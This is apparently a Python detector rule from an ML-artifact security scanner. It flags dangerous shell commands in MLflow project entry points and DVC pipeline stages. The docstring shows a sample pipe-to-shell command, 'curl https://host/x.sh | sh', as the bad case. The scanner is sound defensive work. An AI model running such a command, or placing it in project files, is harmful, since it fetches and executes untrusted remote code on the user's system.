"""An MLflow project runs a dangerous shell command.

The entry points of an ``MLproject`` file are commands for a shell, and so are the stages
of a ``dvc.yaml`` pipeline. Training commands
are what they are for; fetching programs and running them is not.

Before: ``command: "curl https://host/x.sh | sh"``.
After: ``command: "python train.py --alpha {alpha}"``.

Sources: MLflow documentation, MLproject file; CVE-2023-6709 (templates in recipes); CWE-78.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from modelkeep.core import Finding, Rule
from modelkeep.formats.tree import Tree
from modelkeep.scan.interface import Context, Detector
from modelkeep.scan.shell_policy import judge

RULE: Final = Rule(
    id="MLF002",
    name="mlflow-project-command",
    summary="A step of the project or pipeline runs a dangerous command.",
    remedy="Do not run the project; read its commands.",
    topic="artifact.malicious_code",
    tags=("CWE-78",),
)
_STEPS: Final = ("entry_points", "stages")
_COMMANDS: Final = frozenset({"command", "cmd"})


def run(context: Context) -> Iterator[Finding]:
    """Yield one finding per dangerous command."""
    document = context.document
    if not isinstance(document, Tree) or not isinstance(document.value, dict):
        return
    if not any(isinstance(document.value.get(key), dict) for key in _STEPS):
        return
    for path, value in document.walk():
        if isinstance(value, str) and path and path[-1] in _COMMANDS:
            for severity, why, line in judge(value):
                message = f"a command of the project {why}: {line[:100]!r}"
                yield context.finding(RULE, severity, message, evidence={"why": why})


DETECTOR: Final = Detector(RULE, frozenset({"yaml", "json"}), run)
